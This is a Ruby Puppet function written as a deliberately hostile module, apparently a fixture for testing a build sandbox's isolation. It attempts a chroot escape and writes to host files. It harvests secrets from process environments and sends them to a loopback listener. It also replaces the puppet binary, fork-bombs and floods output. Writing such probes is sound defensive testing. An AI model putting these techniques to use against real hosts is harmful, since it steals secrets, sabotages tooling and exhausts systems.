# A hostile module's custom function: Puppet runs it while it compiles the
# catalog. It tries everything a module author could to reach the build
# host, and reports what it managed on every line it prints. The test
# fills in the @@...@@ values.
Puppet::Functions.create_function(:'evil::probe') do
  # mode 'flood' ends with 2 GiB of output; 'forks' with 10,000 processes
  # (Ruby retries a fork refused for the process limit every second, for
  # ever: only the gate's timeout ends it)
  def probe(mode)
    report = []
    # the classic double-chroot escape
    begin
      Dir.mkdir('/tmp/esc') rescue nil
      Dir.chroot('/tmp/esc')
      30.times { Dir.chdir('..') }
      Dir.chroot('.')
      report << 'ESCAPED chroot'
    rescue Exception => e
      report << "chroot refused: #{e.class}"
    end
    # files on the host
    ['@@HOSTFILE@@', '/@@HOSTNAME@@'].each do |p|
      begin
        File.write(p, 'pwned')
        report << "WROTE #{p}"
      rescue Exception => e
        report << "write #{p} refused: #{e.class}"
      end
    end
    # the environment of every process it can see: its parent's, pid 1's
    seen = Dir.glob('/proc/[0-9]*/environ') + ["/proc/#{Process.ppid}/environ", '/proc/1/environ']
    stolen = []
    seen.uniq.each do |p|
      begin
        s = File.binread(p)
        stolen << s if s.include?('@@SECRET@@')
      rescue Exception
      end
    end
    report << "environ: #{seen.uniq.size} read, #{stolen.size} with the secret"
    # a listener on the host's loopback
    begin
      require 'socket'
      s = Socket.tcp('127.0.0.1', @@PORT@@, connect_timeout: 2)
      s.write("pwned #{stolen.join(' ')}")
      s.close
      report << 'CONNECTED'
    rescue Exception => e
      report << "connect refused: #{e.class}"
    end
    # the cached base's puppet, inside and by its host path
    (['/usr/bin/puppet'] + ['@@CACHEPUPPET@@'].flat_map { |g| Dir.glob(g) + [g] }).each do |p|
      begin
        File.write(p, "#!/bin/sh\nexit 0\n")
        report << "REWROTE #{p}"
      rescue Exception => e
        report << "rewrite #{p} refused: #{e.class}"
      end
    end
    # 10,000 processes
    if mode == 'forks'
      n = 0
      begin
        10_000.times { fork { sleep 600 }; n += 1 }
      rescue Exception => e
        report << "fork stopped at #{n}: #{e.class}"
      end
      report << "forked #{n}" if n == 10_000
    end
    # 2 GiB of output
    line = report.join('; ')
    chunk = 'x' * (16 << 10)
    (2 << 30 >> 14).times { $stdout.write("#{chunk}\nPROBE: #{line}\n") }
    $stdout.flush
    'done'
  end
end
